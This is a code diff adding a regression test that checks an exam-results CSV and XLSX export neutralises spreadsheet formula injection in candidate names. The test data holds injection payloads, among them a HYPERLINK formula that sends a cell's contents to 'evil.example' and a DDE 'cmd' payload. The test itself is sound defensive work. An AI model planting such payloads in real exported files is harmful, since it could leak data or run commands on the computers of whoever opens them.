@@ -3,9 +3,11 @@
 // ?institution; another institution's admin gets 404 and never sees these rows.
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
+import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ResultRow } from '../../../contracts/admin-results.ts';
 import { RESULT_EXPORT_HEADERS } from '../../../contracts/facts/index.ts';
+import { users } from '../../db/schema/index.ts';
 import { seedResultRows } from '../../../tests/server-helpers/result-rows.ts';
 import { otherInstitutionAdmin, proctorToken, staffCall, staffToken } from '../../../tests/server-helpers/staff.ts';
 import { buildTestApp, type TestApp } from '../../../tests/server-helpers/test-app.ts';
@@ -82,6 +84,20 @@ describe('exports', () => {
     expect(sheet.rowCount).toBe(11);
     expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([...RESULT_EXPORT_HEADERS]);
     expect((sheet.getRow(2).values as unknown[]).slice(1, 5)).toEqual(['Peserta demo 00003', 'hasil-demo-3@sekolah.id', 'EPOT-HSL-demo-00003', 'Gugur']);
+  });
+  // Issue 29 item 12: a name is the candidate's own input; Excel must show it, never run it.
+  it('neutralises formula-leading names in the CSV and keeps them text in the XLSX', async () => {
+    const evil = ['=HYPERLINK("http://evil.example/?x="&B2,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
+    for (const [k, name] of evil.entries()) await t.db.update(users).set({ fullname: name }).where(eq(users.email, `hasil-demo-${k}@sekolah.id`));
+    const csv = await staffCall(t, { url: '/results.csv?search=hasil-demo&sort=order_no&order=asc', token: admin });
+    const names = (parse(csv.raw.body, { bom: true }) as string[][]).slice(1, 5).map((r) => r[0]);
+    expect(names).toEqual(evil.map((n) => `'${n}`));
+    const x = await staffCall(t, { url: '/results.xlsx?search=hasil-demo&sort=order_no&order=asc', token: admin });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(x.raw.rawPayload as unknown as ArrayBuffer);
+    const cells = [2, 3, 4, 5].map((row) => wb.getWorksheet('Hasil')!.getRow(row).getCell(1));
+    expect(cells.map((c) => c.type)).toEqual(evil.map(() => ExcelJS.ValueType.String));
+    expect(cells.map((c) => c.value)).toEqual(evil);
   });
 });
 
